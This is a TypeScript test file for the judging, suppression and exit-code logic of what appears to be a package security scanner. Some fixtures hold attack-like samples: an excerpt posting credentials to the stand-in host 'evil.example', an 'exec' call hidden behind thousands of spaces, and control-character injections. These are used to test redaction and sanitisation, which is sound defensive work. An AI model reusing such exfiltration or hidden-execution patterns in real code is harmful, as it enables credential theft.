import fc from "fast-check";
import { expect, test } from "vitest";
import type { Observation } from "../checks/check.ts";
import type { CheckOutcome } from "../checks/run-checks.ts";
import type { Severity } from "../model/finding.ts";
import { exitCode } from "./exit-code.ts";
import type { JudgedRule } from "./findings.ts";
import { type Case, type JudgedSubject, judge } from "./judge.ts";
import { defaultPolicy, type Policy, type Suppression } from "./policy.ts";

const rules: readonly JudgedRule[] = [
  { id: "wheel/startup-line-runs", severity: "medium", confidence: "certain", runsAt: "startup" },
  { id: "record/hash-mismatch", severity: "high", confidence: "certain", runsAt: null },
  { id: "code/setup-runs", severity: "medium", confidence: "likely", runsAt: "download" },
];

function found(rule: CheckOutcome["rule"], ...observations: Observation[]): CheckOutcome {
  return { rule, outcome: "found", observations, notKept: {}, undecided: null };
}

function at(path: string, line?: number, severity?: Severity): Observation {
  return {
    at: line === undefined ? { path } : { path, line },
    message: `${path} is odd`,
    evidence: {},
    ...(severity === undefined ? {} : { severity }),
  };
}

function subject(outcomes: readonly CheckOutcome[], more: Partial<JudgedSubject> = {}): JudgedSubject {
  const identity = { kind: "wheel", url: null, size: 1, sha256: "00", uploadTime: null } as const;
  return {
    target: "color-logs==1.0",
    project: "color-logs",
    version: "1.0",
    distribution: { filename: "color_logs-1.0-py3-none-any.whl", ...identity },
    outcomes,
    facts: {},
    ...more,
  };
}

function judged(outcomes: readonly CheckOutcome[], policy: Partial<Policy> = {}, more: Partial<Case> = {}) {
  return judge({
    toolVersion: "1.2.3",
    subjects: [subject(outcomes)],
    incomplete: [],
    policy: { ...defaultPolicy, ...policy },
    today: "2026-11-22",
    rules,
    ...more,
  });
}

test("stamps the check on its observations and orders them: severity, rule, path, line", () => {
  const { subjects, verdict } = judged([
    found("wheel/startup-line-runs", at("b.pth", 2), at("b.pth", 1), at("a.pth"), at("low.pth", 1, "low")),
    found("record/hash-mismatch", at("m.py")),
    { rule: "code/setup-runs", outcome: "clean" },
  ]);

  expect(
    subjects[0]?.findings.map(({ rule, severity, at: { path, line } }) => `${severity} ${rule} ${path}:${line}`),
  ).toEqual([
    "high record/hash-mismatch m.py:null",
    "medium wheel/startup-line-runs a.pth:null",
    "medium wheel/startup-line-runs b.pth:1",
    "medium wheel/startup-line-runs b.pth:2",
    "low wheel/startup-line-runs low.pth:1",
  ]);
  expect(subjects[0]?.findings[1]).toMatchObject({ confidence: "certain", runsAt: "startup" });
  expect(verdict.counts).toEqual({ critical: 0, high: 1, medium: 3, low: 1, info: 0 });
  expect(Object.entries(subjects[0]?.outcomes ?? {})).toEqual([
    ["code/setup-runs", "clean"],
    ["record/hash-mismatch", "found"],
    ["wheel/startup-line-runs", "found"],
  ]);
});

test.each<[Policy["failOn"], Severity, 0 | 1]>([
  ["high", "high", 1],
  ["high", "critical", 1],
  ["high", "medium", 0],
  ["info", "info", 1],
  ["none", "critical", 0],
])("fail-on %s and a %s finding: exit %d", (failOn, severity, code) => {
  expect(exitCode(judged([found("record/hash-mismatch", at("m.py", 1, severity))], { failOn }))).toBe(code);
});

test("what could not be looked at makes a clean run incomplete, never a failed one", () => {
  const incomplete = [{ target: "x", what: "download", why: "no answer" }];

  expect(exitCode(judged([], {}, { incomplete }))).toBe(3);
  expect(judged([found("record/hash-mismatch", at("m.py"))], {}, { incomplete })).toMatchObject({
    verdict: { status: "findings" },
    incomplete,
  });
});

test("an undecided check is incomplete and says why, once per reason; a skipped one is not", () => {
  const assessment = judged([
    { rule: "record/hash-mismatch", outcome: "undecided", why: "big.bin: larger than 4 GiB" },
    { rule: "wheel/startup-line-runs", outcome: "undecided", why: "big.bin: larger than 4 GiB" },
    { rule: "code/setup-runs", outcome: "skipped", why: "no sourceTree" },
  ]);

  expect(assessment.incomplete).toEqual([
    {
      target: "color_logs-1.0-py3-none-any.whl",
      what: "record/hash-mismatch and wheel/startup-line-runs",
      why: "big.bin: larger than 4 GiB",
    },
  ]);
  expect(assessment.subjects[0]?.reasons["code/setup-runs"]).toBe("no sourceTree");
  expect(exitCode(assessment)).toBe(3);
});

test("a slight finding does not make up for what its check could not decide", () => {
  const outcome = {
    ...found("code/setup-runs", at("setup.py")),
    undecided: "setup.py could not be parsed",
  } as CheckOutcome;

  expect(exitCode(judged([outcome]))).toBe(3);
});

test("a rule that is ignored or not selected is neither clean nor counted", () => {
  const outcomes = [found("record/hash-mismatch", at("m.py")), found("code/setup-runs", at("setup.py"))];

  const ignored = judged(outcomes, { ignore: ["record/"] });
  expect(ignored.subjects[0]?.outcomes).toEqual({ "code/setup-runs": "found" });
  expect(ignored.notAsked).toEqual(["record/hash-mismatch"]);
  expect(ignored.verdict.status).toBe("clean");

  const selected = judged(outcomes, { select: ["record/"] });
  expect(selected.notAsked).toEqual(["code/setup-runs", "wheel/startup-line-runs"]);
});

const accepted: Suppression = { rule: "wheel/startup-line-runs", project: "Color_Logs", reason: "Only colours." };
const lines = found("wheel/startup-line-runs", at("a.pth", 1, "high"), at("b.pth", 1, "high"));

test.each<[string, Partial<Suppression>, number]>([
  ["the project, however it is spelled", {}, 0],
  ["a family", { rule: "wheel/" }, 0],
  ["its path", { path: "a.*" }, 1],
  ["an equal version", { version: "1.0.0" }, 0],
  ["another version", { version: "1.1" }, 2],
  ["another project", { project: "colorlog" }, 2],
  ["the last day", { expires: "2026-11-22" }, 0],
  ["a day past", { expires: "2026-11-21" }, 2],
])("a suppression by %s leaves %o: %d findings", (_, change, left) => {
  const assessment = judged([lines], { suppressions: [{ ...accepted, ...change }] });

  expect(assessment.subjects[0]?.findings).toHaveLength(left);
  expect(assessment.suppressed).toHaveLength(2 - left);
  expect(exitCode(assessment)).toBe(left === 0 ? 0 : 1);
});

test("says which suppressions are expired or of no use", () => {
  const { notes } = judged([lines, { rule: "code/setup-runs", outcome: "skipped", why: "no sdist" }], {
    suppressions: [
      { ...accepted, expires: "2026-01-01" },
      { ...accepted, path: "gone.pth" },
      { ...accepted, project: "not-in-this-run" },
      { ...accepted, rule: "code/setup-runs" },
    ],
  });

  expect(notes).toEqual([
    "The suppression of wheel/startup-line-runs for Color_Logs expired on 2026-01-01 and no longer applies. It would match 2 findings.",
    "The suppression of wheel/startup-line-runs for Color_Logs (gone.pth) matched nothing; remove it.",
  ]);
});

test("findings beyond the limit count by their severity, whoever lists them", () => {
  const flood: CheckOutcome = {
    rule: "record/hash-mismatch",
    outcome: "found",
    observations: [at("a.py", 1, "high")],
    notKept: { high: 2, info: 40 },
    undecided: null,
  };
  const counts = { critical: 0, high: 3, medium: 0, low: 0, info: 40 };

  expect(judged([flood]).verdict.counts).toEqual(counts);
  expect(judged([flood]).subjects[0]).toMatchObject({ counts, notKept: { "record/hash-mismatch": 42 } });
});

test("a suppression by path says nothing of findings beyond the limit", () => {
  const flood = { ...lines, notKept: { medium: 40 } } as CheckOutcome;

  const byPath = judged([flood], { suppressions: [{ ...accepted, path: "*.pth" }] });
  expect(byPath.incomplete[0]?.what).toBe("40 more findings of wheel/startup-line-runs");
  expect(exitCode(byPath)).toBe(3);
  expect(byPath.verdict.counts.medium).toBe(0);

  const whole = judged([flood], { suppressions: [accepted] });
  expect(exitCode(whole)).toBe(0);
  expect(whole.verdict.counts.medium).toBe(0);
  expect(whole.subjects[0]?.notKept).toEqual({ "wheel/startup-line-runs": 40 });
});

test("credentials lose their middle, and tell findings apart all the same", () => {
  const sends = (password: string): string | undefined => {
    const excerpt = `post("https://me:${password}@evil.example/")`;
    const { subjects } = judged([found("code/setup-runs", { at: {}, message: excerpt, evidence: { excerpt } })]);
    const [finding] = subjects[0]?.findings ?? [];
    expect(finding?.evidence.excerpt).toBe('post("https://me:***@evil.example/")');
    expect(finding?.message).toBe(finding?.evidence.excerpt);
    return finding?.fingerprint;
  };
  expect(sends("hunter2")).not.toBe(sends("hunter3"));
});

test("does not let a gap of thousands of spaces push anything out", () => {
  const excerpt = `import os;${" ".repeat(5000)}exec("evil")`;
  const { subjects } = judged([found("record/hash-mismatch", { at: {}, message: "m", evidence: { excerpt } })]);

  expect(subjects[0]?.findings[0]?.evidence.excerpt).toBe(`import os; [5000 spaces] exec("evil")`);
});

test("cuts what would drown a report, and says so in place", () => {
  const long = "x".repeat(10_000_000);
  const { subjects } = judged([
    found("record/hash-mismatch", {
      at: {},
      message: long,
      evidence: { excerpt: long, items: Array<string>(500).fill("i") },
    }),
  ]);

  const [finding] = subjects[0]?.findings ?? [];
  expect(finding?.message).toBe(`${"x".repeat(2000)}… (9998000 more characters)`);
  expect(finding?.evidence.items).toHaveLength(50);
  expect(finding?.evidence.itemsNotShown).toBe(450);
});

test("lets no control character through, wherever it came in", () => {
  const hostile = fc.string({ unit: fc.constantFrom("\u001b", "\n", "\u202e", "\u0000", "a", "\ud800", "\u009b") });
  fc.assert(
    fc.property(hostile, (text) => {
      const observation: Observation = {
        at: { path: text },
        message: text,
        evidence: {
          excerpt: text,
          claimed: text,
          items: [text],
          readings: [{ reader: text, sees: text }],
          tools: [{ tool: text, does: text }],
        },
      };
      const assessment = judge({
        toolVersion: "1.2.3",
        subjects: [
          subject([found("record/hash-mismatch", observation)], {
            target: text,
            project: text,
            version: text,
            facts: { [text]: text },
          }),
        ],
        incomplete: [{ target: text, what: text, why: text }],
        notes: [text],
        policy: {
          ...defaultPolicy,
          suppressions: [{ ...accepted, project: text, reason: text, expires: "2000-01-01" }],
        },
        today: "2026-11-22",
        rules,
      });
      const strings: string[] = [];
      JSON.stringify(assessment, (key, value: unknown) => {
        strings.push(key, typeof value === "string" ? value : "");
        return value;
      });
      expect(strings.filter((one) => /[\p{Cc}\p{Cs}\u202e]/u.test(one))).toEqual([]);
    }),
  );
});
